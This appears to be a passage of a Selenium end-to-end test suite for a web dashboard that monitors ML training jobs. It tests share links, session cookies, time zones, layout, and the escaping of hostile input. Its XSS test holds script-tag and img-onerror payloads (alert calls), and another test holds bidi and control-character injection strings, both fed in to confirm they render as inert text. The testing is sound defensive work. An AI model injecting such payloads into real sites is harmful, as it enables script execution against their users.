    status, body, _ = s.request("POST", f"/api/batches/{q(BATCH)}/shares", {})
    if status != 201:
        raise Fail(f"minting a share link → {status}: {body[:300]!r}")
    return json.loads(body)


@scenario
def share_before_jobs(b):
    """A link shared at batch_start, before the first job, says so and opens that job when it starts, live."""
    s = server()
    s.post_events([event("batch_start", "early-b", None, {"n_total_jobs": 1})])
    status, body, _ = s.request("POST", "/api/batches/early-b/shares", {})
    check(status == 201, f"minting → {status}: {body[:300]!r}")
    b.get(f"{URL}/share/{json.loads(body)['token']}")
    b.wait_js("document.querySelector('#page-error')?.textContent.includes('no jobs yet')", "the no-jobs notice",
              diag="document.body.innerText.slice(0, 300)")
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live while it waits",
              diag="document.querySelector('#conn').textContent")
    mark_document(b)
    s.post_events([event("job_start", "early-b", "first", {"model": "mlp"}),
                   event("job_epoch", "early-b", "first", {"epoch": 0, "train_loss": 1.25})])
    b.wait_js("document.querySelector('#tile-train-loss')?.textContent.includes('1.25')", "the first job's page, live",
              timeout=10, diag="document.body.innerText.slice(0, 300)")
    check(not b.exists("#actions"), "#actions is present on a share link")
    still_same_document(b)


@scenario
def local_times(b):
    """Log lines are stamped in the browser's time zone, as the banners are (here Asia/Tokyo, UTC+9), with their
    date when they were not written today there, and its year when not this year."""
    b.driver.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": "Asia/Tokyo"})
    s = server()
    tokyo = datetime.timezone(datetime.timedelta(hours=9))
    now = datetime.datetime.now(datetime.timezone.utc)

    def label(t):
        """What the page should show for an instant: the rule of format.js's isoClock, in Tokyo."""
        t, n = t.astimezone(tokyo), now.astimezone(tokyo)
        return t.strftime("%Y-%m-%d %H:%M:%S" if t.year != n.year else "%H:%M:%S" if t.date() == n.date()
                          else "%b %d %H:%M:%S")

    stamps = {"two days ago": now - datetime.timedelta(days=2, minutes=7),
              "last year": datetime.datetime(now.year - 1, 6, 15, 3, 4, 5, tzinfo=datetime.timezone.utc),
              "stamped now": now}
    s.post_events([event("log_line", BATCH, JOB, {"line": f"{name}", "level": "info"},
                         ts=t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")) for name, t in stamps.items()])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    check(label(stamps["last year"]) == f"{now.year - 1}-06-15 12:04:05", "the test's own rule gives the year")
    for name, t in stamps.items():
        row = f"[...document.querySelectorAll('#log .line')].find((e) => e.textContent.includes('{name}'))"
        b.wait_js(f"{row}?.querySelector('.ts')?.textContent === '{label(t)}'", f"the line '{name}' stamped {label(t)}",
                  diag=f"{row}?.textContent")
    # The times line up as argus-tui's do: the level column starts at one place on every line.
    lefts = b.js("return [...document.querySelectorAll('#log .line .lvl')].map((e) => Math.round(e.getBoundingClientRect().left));")
    check(len(lefts) >= 3 and len(set(lefts)) == 1, f"the level column starts at {sorted(set(lefts))}: the times do not line up")


@scenario
def refused_stream(b):
    """A stream refused for too many open streams (the server runs with ARGUS_MAX_STREAMS_PER_TOKEN=1) says so on the
    page, with the server's sentence, instead of a bare "the server refused the stream"."""
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    first = b.driver.current_window_handle
    # A window of its own: a tab in front of the first would hide it, and a hidden page gives its stream back.
    b.js("window.open(arguments[0], '', 'popup');", f"{URL}/jobs/{q(BATCH)}/{q(JOB2)}")
    b.driver.switch_to.window([h for h in b.driver.window_handles if h != first][0])
    b.wait_js("/already has 1 open streams/.test(document.querySelector('#conn')?.textContent || '')",
              "the second tab to say why its stream was refused", 15, "document.querySelector('#conn')?.textContent")
    b.driver.close()
    b.driver.switch_to.window(first)


@scenario
def share_list(b):
    """The batch page lists its share links for the owner, live as one is minted, and revokes one after asking:
    the link then opens nothing."""
    s = server()
    sign_in(b, f"/batches/{q(BATCH)}")
    b.wait_js("document.querySelector('tr.job')", "the batch page")
    check(b.js("return document.querySelector('#shares').hidden;"), "a share section with no share links")
    link = mint_share()
    row = f"document.querySelector('tr.share[data-id=\"{link['id']}\"]')"
    b.wait_js(f"{row}?.dataset.state === 'active'", "the minted link, live, as active", diag="document.querySelector('#shares').outerHTML")
    b.driver.find_element("css selector", f"tr.share[data-id=\"{link['id']}\"] button").click()
    b.wait_js("!document.querySelector('#confirm').hidden", "the question first")
    b.driver.find_element("css selector", "#confirm-yes").click()
    b.wait_js(f"{row}?.dataset.state === 'revoked' && !{row}.querySelector('button')", "the link listed as revoked",
              diag="document.querySelector('#shares').outerHTML")
    status, _, _ = s.request("GET", f"/share/{link['token']}", token=False)
    check(status == 404, f"the revoked link still opens: {status}")


@scenario
def share(b):
    """A share link opens the read-only page: no #actions, and #job-switcher shows the other job without reload."""
    s = server()
    link = mint_share()
    other = s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB2)}")["telemetry"]
    b.get(f"{URL}/share/{link['token']}")
    wait_ready(b)
    check(not b.exists("#actions"), "#actions is present on a share link")
    check(not b.exists("#signin") or not b.visible("#signin"), "the share view asks to sign in")
    check(b.exists("#job-switcher"), "no #job-switcher for a batch with two jobs")
    check(JOB in (b.text("#job-switcher") or "") and JOB2 in (b.text("#job-switcher") or ""),
          f"#job-switcher does not list both jobs: {b.text('#job-switcher')!r}")
    mark_document(b)
    train0 = tile(b, "train-loss")
    kind = b.js("return document.querySelector('#job-switcher').tagName;")
    if kind == "SELECT":
        b.js("const s = document.querySelector('#job-switcher'); const o = [...s.options].find(o => o.value === arguments[0] || o.textContent.includes(arguments[0]));"
             " s.value = o.value; s.dispatchEvent(new Event('change', {bubbles: true}));", JOB2)
    else:
        links = b.driver.find_elements("css selector", "#job-switcher a, #job-switcher button")
        target = [e for e in links if JOB2 in e.text]
        check(target, f"no link to {JOB2} in #job-switcher")
        target[0].click()
    want = fmt_loss(other["train_loss"])
    b.wait_js(f"document.querySelector('#tile-train-loss').textContent.includes({json.dumps(want)})",
              f"#tile-train-loss to show {JOB2}'s {want} after switching (was {train0!r})",
              diag="document.querySelector('#tile-train-loss').textContent")
    n2 = len(s.get_json(f"/api/jobs/{q(BATCH)}/{q(JOB2)}/view")["epochs"])
    b.wait_js(f"document.querySelector('#chart').getAttribute('data-epochs') === '{n2}' && Number(document.querySelector('#chart').getAttribute('data-drawn')) > 0",
              f"the chart of {JOB2} ({n2} epochs)", diag="document.querySelector('#chart').getAttribute('data-epochs')")
    still_same_document(b)
    check(not b.exists("#actions"), "#actions appeared after switching jobs")


@scenario
def revoked(b):
    """A revoked (or unknown) share link answers 404 with a readable page (#dead-link)."""
    s = server()
    link = mint_share()
    status, body, _ = s.request("DELETE", f"/api/batches/{q(BATCH)}/shares/{link['id']}")
    check(status == 200, f"revoking → {status}: {body[:200]!r}")
    for token, what in [(link["token"], "revoked"), ("never-minted-" + "x" * 40, "unknown")]:
        page = f"{URL}/share/{token}"
        status, body, headers = s.request("GET", f"/share/{token}", token=False, accept="text/html")
        check(status == 404, f"GET {what} share link with Accept: text/html → {status}, expected 404")
        check("text/html" in headers.get("Content-Type", ""), f"the {what} link's 404 is not HTML: {headers}")
        b.get(page)
        b.wait_js("document.querySelector('#dead-link')", f"#dead-link on the {what} link's page",
                  diag="document.body ? document.body.innerText.slice(0, 300) : ''")
        text = b.body_text().lower()
        check(all(w in text for w in ["revoked", "expired"]),
              f"the {what} link's page does not say the link was revoked or expired: {text!r}")
        check(not b.exists("#actions") and not b.exists("#chart"), "the dead link shows a job page")
    # Chromium reports the document's own 404 on the console; that is the status we asked for, not a page error.
    b.assert_clean(URL, allow_console=[
        "^" + re.escape(f"{URL}/share/") + r"\S+ - Failed to load resource: the server responded with a status of 404"])


XSS_LINE = '<script>alert("log")</script><img src=x onerror=alert("img")> & "quoted" <b>bold</b>'
XSS_LIVE = '<img src=x onerror=alert("live")><script>alert("live2")</script>'
XSS_REASON = 'CUDA OOM <img src=x onerror=alert("reason")><script>alert("r")</script>'


@scenario
def xss(b):
    """Log lines and a failure reason carrying <script> and <img onerror> are shown as text, initially and live."""
    s = server()
    s.post_events([
        event("log_line", BATCH, JOB, {"line": XSS_LINE, "level": "error"}),
        event("job_failed", BATCH, JOB2, {"reason": XSS_REASON}),
    ])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js(f"[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === {json.dumps(XSS_LINE)})",
              "the HTML-looking log line, as text", diag="[...document.querySelectorAll('#log .line .text')].map(e => e.textContent).slice(-3)")
    b.wait_js("document.querySelector('#conn') && document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    s.post_events([event("log_line", BATCH, JOB, {"line": XSS_LIVE, "level": "info"})])
    b.wait_js(f"[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === {json.dumps(XSS_LIVE)})",
              "the live HTML-looking log line, as text")
    check(b.js("return document.querySelectorAll('#log img, #log script, #log b').length;") == 0,
          "#log contains elements made from a log line: " + repr(b.js("return document.querySelector('#log').innerHTML.slice(0, 500);")))
    time.sleep(0.3)  # an injected onerror would have fired by now
    check(b.dialogs() == [], f"a payload ran: {b.dialogs()}")
    # The failure reason of the other job.
    b.get(f"{URL}/jobs/{q(BATCH)}/{q(JOB2)}")
    b.wait_js(f"document.querySelector('#failure') && document.querySelector('#failure').textContent.includes({json.dumps(XSS_REASON)})",
              "#failure to show the HTML-looking failure reason as text", diag="document.querySelector('#failure') && document.querySelector('#failure').innerHTML")
    check(b.js("return document.querySelectorAll('#failure img, #failure script').length;") == 0, "#failure contains elements made from the reason")
    check(b.visible("#failure"), "#failure is not visible for a failed job")
    check("failed" in tile(b, "status"), f"#tile-status shows {tile(b, 'status')!r} for a failed job")
    check(not b.visible("#final"), "#final shown for a job that reported no final metrics")
    # Final metrics (j.metrics, job_done's metrics), one named like HTML: one row, as text.
    s.post_events([event("job_done", BATCH, "final-metrics", {"metrics": {"top1": 0.761, XSS_REASON: 0.21, "acc": None}})])
    b.get(f"{URL}/jobs/{q(BATCH)}/final-metrics")
    want = f"Final: top1 0.761 · {XSS_REASON} 0.21 · acc —"
    b.wait_js(f"document.querySelector('#final') && document.querySelector('#final').textContent === {json.dumps(want)}",
              "#final to show the final metrics as text", diag="document.querySelector('#final') && document.querySelector('#final').outerHTML")
    check(b.js("return document.querySelectorAll('#final img, #final script').length;") == 0, "#final contains elements made from a name")


@scenario
def signin(b):
    """Without a credential the page shows #signin; #token= signs in (HttpOnly cookie) and leaves the address bar
    clean; #signout ends the session; the form signs in again."""
    page = f"{URL}/jobs/{q(BATCH)}/{q(JOB)}"
    b.get(page)
    b.wait_for(lambda: b.visible("#signin"), "#signin on a page opened without a credential")
    check(not b.js("return document.cookie.includes('argus_session');"), "a session cookie before signing in")
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    check(b.url == page, f"the address bar shows {b.url!r}, expected {page!r}")
    wait_ready(b)
    cookies = {c["name"]: c for c in b.driver.get_cookies()}
    c = cookies.get("argus_session")
    check(c, f"no argus_session cookie after signing in: {list(cookies)}")
    check(c.get("httpOnly") is True, f"argus_session is not HttpOnly: {c}")
    check(c.get("sameSite") == "Strict", f"argus_session is not SameSite=Strict: {c}")
    check(c["value"] != TOKEN and TOKEN not in c["value"], "the cookie carries the token itself")
    check(not b.js("return document.cookie.includes('argus_session');"), "the page's script can read the session cookie")
    who = b.js_async("const done = arguments[arguments.length - 1];"
                     " fetch('/api/session').then(r => r.json().then(j => done([r.status, j]), () => done([r.status, null])));")
    check(who[0] == 200 and who[1] and who[1].get("user") == "alice", f"GET /api/session → {who}")
    check(not b.visible("#signin"), "#signin still shown after signing in")
    # Signing out clears the cookie and asks again.
    b.wait_for(lambda: b.visible("#signout"), "#signout once signed in")
    b.click("#signout")
    b.wait_for(lambda: b.visible("#signin"), "#signin after signing out")
    b.wait_for(lambda: "argus_session" not in {c["name"] for c in b.driver.get_cookies()}, "the cookie to be cleared")
    who = b.js_async("const done = arguments[arguments.length - 1]; fetch('/api/session').then(r => done(r.status));")
    check(who == 401, f"GET /api/session after signing out → {who}")
    # The form.
    b.driver.find_element("css selector", "#signin-token").send_keys(TOKEN)
    b.click("#signin-submit")
    wait_ready(b)
    check(b.url == page, f"the address bar shows {b.url!r} after the form")
    check("argus_session" in {c["name"] for c in b.driver.get_cookies()}, "no cookie after the form")
    no_token_in_requests(b)
    # A link with another user's token does not switch accounts unasked: it asks, and No keeps alice.
    who_js = ("const done = arguments[arguments.length - 1];"
              " fetch('/api/session').then(r => r.json()).then(j => done(j.user), () => done(null));")
    b.get(f"{page}#token={TOKEN}")
    b.wait_for(lambda: "#token" not in b.url, "the fragment to leave the address bar")
    time.sleep(0.5)
    wait_ready(b)
    check(not b.visible("#confirm") and b.js_async(who_js) == "alice", "a link with the signed-in user's own token asked or switched")
    b.get(f"{URL}/#token={BOB_TOKEN}")
    b.wait_for(lambda: b.visible("#confirm"), "#confirm before a link signs in as another user")
    text = b.text("#confirm") or ""
    check("This link signs you in as bob, in place of alice." in text and "Switch" in text, f"#confirm says {text!r}")
    b.click("#confirm-no")
    b.wait_for(lambda: not b.visible("#confirm"), "#confirm to close after Cancel")
    check(b.js_async(who_js) == "alice", "Cancel still switched to bob")
    b.wait_js("document.querySelector('#who').textContent === 'alice'", "#who to say alice after Cancel",
              diag="document.querySelector('#who').textContent")
    b.get(f"{URL}/#token={BOB_TOKEN}")
    b.wait_for(lambda: b.visible("#confirm"), "#confirm the second time")
    b.click("#confirm-yes")
    b.wait_js("document.querySelector('#who').textContent === 'bob'", "#who to say bob after Sign in as bob",
              diag="document.querySelector('#who').textContent")


@scenario
def hashchange(b):
    """On a page already open after a bad token, setting only the fragment to `#token=<good token>` signs in without
    a reload, as a fresh load would, and the fragment leaves the address bar."""
    page = f"{URL}/jobs/{q(BATCH)}/{q(JOB)}"
    b.get("about:blank")
    b.get(f"{page}#token=em_live_not-a-real-token")
    b.wait_for(lambda: b.visible("#signin"), "#signin after a bad token in the fragment")
    b.wait_js("/did not sign you in/.test(document.querySelector('#signin-error').textContent)",
              "#signin-error to say the link's token did not sign in", diag="document.querySelector('#signin-error').textContent")
    check(b.url == page, f"the bad token stays in the address bar: {b.url!r}")
    mark_document(b)
    b.js("location.hash = '#token=' + arguments[0];", TOKEN)
    wait_ready(b)
    b.wait_js("location.hash === '' && !location.href.includes('token')", "the fragment to leave the address bar",
              diag="location.href")
    check(not b.visible("#signin"), "#signin still shown after signing in through the fragment")
    check(b.visible("#signout"), "no #signout after signing in through the fragment")
    still_same_document(b)
    no_token_in_requests(b)


CONTROL_LINE = "left \u202eright\u202c \u2066iso\u2069 \u200fr\u200el \u061cx bell\u0007 csi\u009b2J tab\tend"
# The C1 CSI goes with its "2J" (an escape sequence, as argus-tui drops it); each other control is a space.
CONTROL_SHOWN = "left  right   iso   r l  x bell  csi tab\tend"


@scenario
def controls(b):
    """Bidi and C0/C1 controls in a log line and a command are shown as spaces (tab kept), so nothing reorders the
    text; a 20,000-character log line is cut at 8192 characters with a note saying how long it was."""
    s = server()
    s.post_events([
        event("log_line", BATCH, JOB, {"line": CONTROL_LINE, "level": "info"}),
        event("log_line", BATCH, JOB, {"line": "y" * 20000, "level": "info"}),
    ])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js(f"[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === {json.dumps(CONTROL_SHOWN)})",
              "the log line with its controls shown as spaces", diag="[...document.querySelectorAll('#log .line .text')].map(e => e.textContent.slice(0, 80)).slice(-3)")
    text = b.js("return document.body.innerText + document.title;")
    bad = re.findall("[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)
    check(not bad, f"the page shows control characters: {[hex(ord(c)) for c in bad]}")
    long = [t for t in log_texts(b) if t.startswith("yyyy")]
    check(len(long) == 1, f"the long line is not in #log once: {len(long)}")
    check(long[0] == "y" * 8192 + " [line cut: 20000 bytes in all]", f"the long line is shown as {long[0][8180:]!r} ({len(long[0])} characters)")
    # Live, too.
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    s.post_events([event("log_line", BATCH, JOB, {"line": "live \u202eevil", "level": "info"})])
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'live  evil')",
              "the live line with its control shown as a space")


@scenario
def share_url(b):
    """On a share link the job shown is in the address (?job=): switching pushes it, reload keeps it, Back returns;
    a finished job says when another job of the batch is still running, with a link to it."""
    s = server()
    link = mint_share()
    base = f"{URL}/share/{link['token']}"
    b.get(base)
    wait_ready(b)
    mark_document(b)
    b.js("const s = document.querySelector('#job-switcher'); s.value = arguments[0];"
         " s.dispatchEvent(new Event('change', {bubbles: true}));", JOB2)
    b.wait_js(f"location.search === '?job={q(JOB2)}'", f"?job={JOB2} in the address after switching", diag="location.href")
    still_same_document(b)
    b.driver.refresh()
    wait_ready(b)
    b.wait_js(f"document.querySelector('#job-switcher').value === {json.dumps(JOB2)} && document.title.startsWith({json.dumps(JOB2)})",
              f"{JOB2} shown after a reload", diag="[document.querySelector('#job-switcher').value, document.title]")
    check(not b.visible("#job-elsewhere"), "#job-elsewhere shown for a running job")
    s.post_events([event("job_done", BATCH, JOB2, {})])
    b.wait_js(f"document.querySelector('#job-elsewhere') && !document.querySelector('#job-elsewhere').hidden"
              f" && document.querySelector('#job-elsewhere').textContent.includes({json.dumps(JOB)})",
              f"a notice that {JOB} is still running", diag="document.querySelector('#job-elsewhere').textContent")
    b.click("#job-elsewhere a")
    b.wait_js(f"location.search === '?job={q(JOB)}' && document.querySelector('#job-switcher').value === {json.dumps(JOB)}",
              f"the notice's link to show {JOB}", diag="[location.href, document.querySelector('#job-switcher').value]")
    b.driver.back()
    b.wait_js(f"location.search === '?job={q(JOB2)}' && document.querySelector('#job-switcher').value === {json.dumps(JOB2)}",
              f"Back to show {JOB2} again", diag="[location.href, document.querySelector('#job-switcher').value]")
    b.driver.back()
    # The link was opened without ?job=; the page then named the job it showed in the address (replacing that entry).
    b.wait_js(f"location.search === '?job={q(JOB)}' && document.querySelector('#job-switcher').value === {json.dumps(JOB)}",
              f"Back to the link as opened ({JOB}), the address naming it", diag="[location.href, document.querySelector('#job-switcher').value]")


@scenario
def session_ended(b):
    """A session ended elsewhere (signed out in another tab) turns the open job page into the sign-in form with a
    header that says so, no user, no Sign out and no frozen "last event"; Back after Sign out shows no batches."""
    import urllib.request

    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    secret = {c["name"]: c["value"] for c in b.driver.get_cookies()}["argus_session"]
    req = urllib.request.Request(f"{URL}/api/session", method="DELETE", headers={
        "Cookie": f"argus_session={secret}", "Origin": URL, "X-Argus-CSRF": "1"})
    with urllib.request.urlopen(req, timeout=10) as r:
        check(r.status == 204, f"DELETE /api/session → {r.status}")
    b.wait_for(lambda: b.visible("#signin"), "#signin once the session ended", 20)
    who = b.text("#who") or ""
    check(b.visible("#who") and "your session ended" in who, f"#who says {who!r} after the session ended")
    check(not b.visible("#signout"), "#signout still shown after the session ended")
    conn = b.text("#conn") or ""
    check("last event" not in conn and b.js("return document.querySelector('#conn').dataset.state;") == "offline",
          f"#conn says {conn!r} after the session ended")
    check(not b.exists("#chart"), "the job page stays under the sign-in form")
    # Sign in again on the index, open a job, sign out there, go Back: the form, not the batches.
    sign_in(b, "/")
    b.wait_js(f"document.querySelector('.batch[data-id=\"{BATCH}\"] .job a')", "the index's job links")
    b.driver.find_element("css selector", f".batch[data-id=\"{BATCH}\"] .job a").click()
    wait_ready(b)
    b.click("#signout")
    b.wait_for(lambda: b.visible("#signin"), "#signin after Sign out")
    check("you signed out" in (b.text("#who") or ""), f"#who says {b.text('#who')!r} after Sign out")
    b.driver.back()
    b.wait_for(lambda: b.visible("#signin"), "#signin after Back from a signed-out page")
    time.sleep(0.5)
    check(not b.exists(".batch"), "Back after Sign out shows the batches")


# Every tile label and value shows whole: nothing scrolls inside it and it ends inside its tile and the window.
TILES_WHOLE = (
    "return [...document.querySelectorAll('.tile .label, .tile .value')].filter(e => {"
    " const t = e.closest('.tile').getBoundingClientRect();"
    " return e.scrollWidth > e.clientWidth + 1 || e.getBoundingClientRect().right > t.right + 1"
    " || t.right > document.documentElement.clientWidth; }).map(e => e.textContent);"
)


@scenario
def narrow(b):
    """Tiles never cut a value (4 GPUs' memory, a five-digit epoch) at 1280 or 400 px; at 400 px the crumbs still show
    batch and job, the log's follow button stays in its panel and the page does not scroll sideways."""
    s = server()
    s.post_events([
        event("job_epoch", BATCH, JOB, {"epoch": 12345, "train_loss": 0.3131, "val_loss": 0.4141}),
        event("resource_snapshot", BATCH, JOB, {"gpus": [{"index": i, "util_pct": 90, "mem_mb": 65024, "mem_total_mb": 81510}
                                                         for i in range(4)]}),
    ])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#tile-train-loss').parentElement.textContent.includes('epoch 12345')"
              " && document.querySelector('#tile-gpu-mem').textContent.includes('×4')",
              "epoch 12345 and four GPUs in the tiles", diag="document.querySelector('.tiles').innerText")
    cut = b.js(TILES_WHOLE)
    check(not cut, f"tiles cut at 1280 px: {cut}")
    b.cdp("Emulation.setDeviceMetricsOverride", {"width": 400, "height": 900, "deviceScaleFactor": 1, "mobile": False})
    b.wait_js("document.documentElement.clientWidth <= 400", "a 400 px window", diag="document.documentElement.clientWidth")
    time.sleep(0.3)
    cut = b.js(TILES_WHOLE)
    check(not cut, f"tiles cut at 400 px: {cut}")
    crumbs = b.js("return [...document.querySelectorAll('#crumbs .crumb')].map(c => [c.title, c.getBoundingClientRect().width]);")
    shown = {t: w for t, w in crumbs}
    check(shown.get(BATCH, 0) > 10 and shown.get(JOB, 0) > 10, f"the crumbs at 400 px: {crumbs}")
    edges = b.js("const f = document.querySelector('#log-follow').getBoundingClientRect(),"
                 " p = document.querySelector('#log').parentElement.getBoundingClientRect(); return [f.right, p.right];")
    check(edges[0] <= edges[1], f"#log-follow ends at {edges[0]} px, its panel at {edges[1]} px")
    check(b.js("return document.documentElement.scrollWidth <= document.documentElement.clientWidth;"),
          "the page scrolls sideways at 400 px")


@scenario
def index(b):
    """/ lists the batch with links to its jobs (8 at most: going, failed, the last to end; then a link to the rest);
    /batches/{b} has a row per job; the link opens the job page."""
    sign_in(b, "/")
    b.wait_js(f"document.querySelector('.batch[data-id=\"{BATCH}\"] .job a')", f".batch[data-id={BATCH}] with job links",
              diag="document.body.innerText.slice(0, 400)")
    hrefs = b.js(f"return [...document.querySelectorAll('.batch[data-id=\"{BATCH}\"] .job a')].map(a => a.getAttribute('href'));")
    for j in [JOB, JOB2]:
        check(any(h.endswith(f"/jobs/{q(BATCH)}/{q(j)}") for h in hrefs), f"no link to {j}: {hrefs}")
    b.get(f"{URL}/batches/{q(BATCH)}")
    b.wait_js(f"document.querySelector('tr.job[data-id=\"{JOB}\"]') && document.querySelector('tr.job[data-id=\"{JOB2}\"]')",
              "a row per job on /batches/{b}", diag="document.body.innerText.slice(0, 400)")
    row = b.text(f"tr.job[data-id=\"{JOB}\"]") or ""
    check("running" in row, f"the {JOB} row does not show its status: {row!r}")
    links = b.driver.find_elements("css selector", f"tr.job[data-id=\"{JOB}\"] a")
    (links[0] if links else b.driver.find_element("css selector", f"tr.job[data-id=\"{JOB}\"]")).click()
    wait_ready(b)
    check(b.url.endswith(f"/jobs/{q(BATCH)}/{q(JOB)}"), f"the row's link opened {b.url}")
    no_token_in_requests(b)
    # A run that ended days ago, its events delivered only now (a spill file): its last activity is its own, not
    # the delivery's; a run that goes is dated by the server's clock, whatever its host's says (`last_seen`).
    old = "2026-01-02T03:04:05.000000Z"
    s = server()
    s.post_events([event("batch_start", "replayed", None, {}, ts=old), event("batch_done", "replayed", None, {}, ts=old),
                   event("batch_start", "slow-clock", None, {}, ts=old)])
    b.get(f"{URL}/")
    head = "(id) => document.querySelector(`.batch[data-id=\"${id}\"] .batch-head`).textContent"
    b.wait_js("document.querySelector('.batch[data-id=\"replayed\"]') && document.querySelector('.batch[data-id=\"slow-clock\"]')",
              "the two batches on the index")
    replayed, slow = b.js(f"const f = {head}; return [f('replayed'), f('slow-clock')];")
    check("last activity " in replayed and " s ago" not in replayed and "just now" not in replayed,
          f"the late-delivered ended run reads as recent: {replayed!r}")
    check("last activity " in slow and ("s ago" in slow or "just now" in slow), f"the running run is not dated by the server's clock: {slow!r}")
    # A sweep of 14 jobs lists 8: the two running, the failed one, then the last to end; a link to the other 6 (a
    # 499-job sweep was 12,000 px of index). A batch of 11 running lists 8 and says the other 3 run too.
    s.post_events([event("batch_start", "wide", None, {})] + [event("job_start", "wide", f"w{n:02d}", {}) for n in range(14)]
                  + [event("job_done", "wide", f"w{n:02d}", {}) for n in range(11)]
                  + [event("job_failed", "wide", "w11", {"reason": "OOM"})])
    s.post_events([event("batch_start", "busy", None, {})] + [event("job_start", "busy", f"r{n:02d}", {}) for n in range(11)])
    b.get(f"{URL}/")
    rows = "(id) => [...document.querySelectorAll(`.batch[data-id=\"${id}\"] li.job`)].map(li => li.dataset.id)"
    more = "(id) => { const a = document.querySelector(`.batch[data-id=\"${id}\"] li.more a`); return a && [a.textContent, a.getAttribute('href')]; }"
    b.wait_js("document.querySelector('.batch[data-id=\"wide\"] li.more') && document.querySelector('.batch[data-id=\"busy\"] li.more')",
              "the sweeps' links to the rest", diag="document.querySelector('.batch[data-id=\"wide\"]')?.innerText")
    shown = b.js(f"return ({rows})('wide');")
    check(shown == ["w12", "w13", "w11", "w10", "w09", "w08", "w07", "w06"], f"the wide sweep's rows: {shown}")
    link = b.js(f"return ({more})('wide');")
    check(link == ["6 more jobs on the batch page", "/batches/wide"], f"the link to the rest: {link}")
    link = b.js(f"return ({more})('busy');")
    check(link == ["3 more jobs (3 running) on the batch page", "/batches/busy"], f"the link to the rest of busy: {link}")
    # More than 30 batches: the oldest are a click away, not out of reach.
    s.post_events([event("batch_start", f"old-{n:02d}", None, {}) for n in range(34)])
    b.get(f"{URL}/")
    b.wait_js("document.querySelectorAll('.batch').length === 30 && !document.querySelector('#index-more').hidden",
              "30 batches and the Show older batches button", diag="document.querySelectorAll('.batch').length")
    b.driver.find_element("css selector", "#index-more").click()
    b.wait_js("document.querySelectorAll('.batch').length === 39 && document.querySelector('#index-more').hidden",
              "all 39 batches, and no button", diag="document.querySelectorAll('.batch').length")


@scenario
def long_ids(b):
    """A batch and a job with very long ids: the recent-batches list and the batch page stay within the window
    (the ids cut with …, the whole id in the link's title, other words whole), at 1280 and at 400 px; 300 metrics
    leave the chart on the first screen."""
    s = server()
    bid = "ünï 🚀 " + "x" * 100
    jid = "jöb é 漢字 #?&<b> " + "y" * 230
    s.post_events([event("batch_start", bid, source={"project": "vision", "host": "gpu-" + "h" * 90}),
                   event("job_start", bid, jid, {"model": "resnet50", "total_epochs": 60}),
                   event("job_epoch", bid, jid, {"epoch": 3, "train_loss": 0.5, "val_loss": 0.6})])
    sign_in(b, "/")
    for path, ready in [("/", ".batch .job a"), (f"/batches/{q(bid)}", "tr.job a")]:
        for width in [1280, 400]:
            b.cdp("Emulation.setDeviceMetricsOverride", {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False})
            b.get(f"{URL}{path}")
            b.wait_js(f"document.querySelector({json.dumps(ready)})", f"{path} to list the jobs",
                      diag="document.body.innerText.slice(0, 400)")
            time.sleep(0.3)
            wide = b.js("return [document.documentElement.scrollWidth, document.documentElement.clientWidth];")
            over = b.js("return [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > document.documentElement.clientWidth + 1 && e.children.length === 0).slice(0, 5).map((e) => (e.id || e.className || e.tagName) + ': ' + e.textContent.slice(0, 40));")
            check(wide[0] <= wide[1], f"{path} at {width} px is {wide[0]} px wide in a {wide[1]} px window: {over}")
            titles = b.js(f"return [...document.querySelectorAll({json.dumps(ready)})].map(a => a.title);")
            check(jid in titles, f"{path}: the job link's title is not the whole id: {titles}")
            if path != "/":
                # Words stay whole in the table (it scrolls sideways instead): "resnet50" on one line, not "resne/t50".
                lines = b.js("const td = [...document.querySelectorAll('table.jobs td')].find(d => d.textContent === 'resnet50');"
                             " const r = document.createRange(); r.selectNodeContents(td); return r.getClientRects().length;")
                check(lines == 1, f"{path} at {width} px: the model's name is broken over {lines} lines")
                epoch = b.js("return document.querySelector('tr.job td.epoch').textContent;")
                check(epoch == "3/60", f"{path}: the epoch column reads {epoch!r}, not 3/60 as in argus-tui")
    # The job page too, with a long host name and a long metric name in the chart's legend.
    metric = "validation_top5_accuracy_of_the_whole_ensemble_" + "z" * 40
    many = {f"class_{i}_acc": i / 300 for i in range(300)}
    s.post_events([event("job_epoch", bid, jid, {"epoch": 4, "train_loss": 0.4, metric: 0.7, **many})])
    b.get(f"{URL}/jobs/{q(bid)}/{q(jid)}")
    b.wait_js("document.querySelector('#tile-status')?.textContent.includes('running')", "the job page",
              diag="document.body.innerText.slice(0, 400)")
    time.sleep(0.3)
    wide = b.js("return [document.documentElement.scrollWidth, document.documentElement.clientWidth];")
    over = b.js("return [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > document.documentElement.clientWidth + 1 && e.children.length === 0).slice(0, 5).map((e) => (e.id || e.className || e.tagName) + ': ' + e.textContent.slice(0, 40));")
    check(wide[0] <= wide[1], f"the job page at 400 px is {wide[0]} px wide in a {wide[1]} px window: {over}")
    # 300 per-class metrics: their legend scrolls, and the chart still starts on the first screen.
